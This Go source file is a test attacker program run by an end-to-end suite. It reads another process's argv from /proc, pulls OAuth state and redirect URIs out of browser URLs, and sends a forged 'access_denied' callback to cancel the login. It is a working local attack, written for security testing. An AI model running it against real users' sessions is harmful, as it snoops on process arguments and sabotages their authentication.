// Command argvthief is the attacker of issue 13 item 12, run by the e2e
// suite as another user (setpriv): it reads a browser process's argv from
// /proc, takes every http(s) URL there, learns what it can (the state and
// redirect_uri of an authorization URL, or those of a redirect the URL
// answers with), and sends the forged callback that would end a login:
// ?error=access_denied&state=<state> to the redirect URI (with no state
// when it learned none, to the /callback next to a loopback URL).
//
// It prints one line per step ("learned state: yes|no", "forged callback:
// <status>") and never the state itself. Usage: argvthief <pid>.
package main

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"time"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: argvthief <pid>")
		os.Exit(2)
	}
	argv, err := os.ReadFile("/proc/" + os.Args[1] + "/cmdline")
	if err != nil {
		fmt.Fprintf(os.Stderr, "argvthief: %v\n", err)
		os.Exit(1)
	}
	client := &http.Client{
		Timeout:       10 * time.Second,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}
	for _, arg := range bytes.Split(argv, []byte{0}) {
		u, err := url.Parse(string(arg))
		if err != nil || (u.Scheme != "http" && u.Scheme != "https") {
			continue
		}
		fmt.Printf("argv url: %s://%s%s\n", u.Scheme, u.Host, u.Path)
		state, redirect := u.Query().Get("state"), u.Query().Get("redirect_uri")
		if state == "" {
			// Perhaps a launch address: what does it redirect to?
			if resp, err := client.Get(u.String()); err == nil {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
				fmt.Printf("argv url answered: %d\n", resp.StatusCode)
				if loc, err := resp.Location(); err == nil {
					state, redirect = loc.Query().Get("state"), loc.Query().Get("redirect_uri")
				}
			} else {
				fmt.Printf("argv url: %v\n", err)
			}
		}
		fmt.Printf("learned state: %s\n", map[bool]string{true: "yes", false: "no"}[state != ""])
		if redirect == "" {
			redirect = u.Scheme + "://" + u.Host + "/callback"
		}
		cb, err := url.Parse(redirect)
		if err != nil {
			continue
		}
		q := url.Values{"error": {"access_denied"}, "error_description": {"forged"}}
		if state != "" {
			q.Set("state", state)
		}
		cb.RawQuery = q.Encode()
		resp, err := client.Get(cb.String())
		if err != nil {
			fmt.Printf("forged callback: %v\n", err)
			continue
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		fmt.Printf("forged callback: %d\n", resp.StatusCode)
	}
}
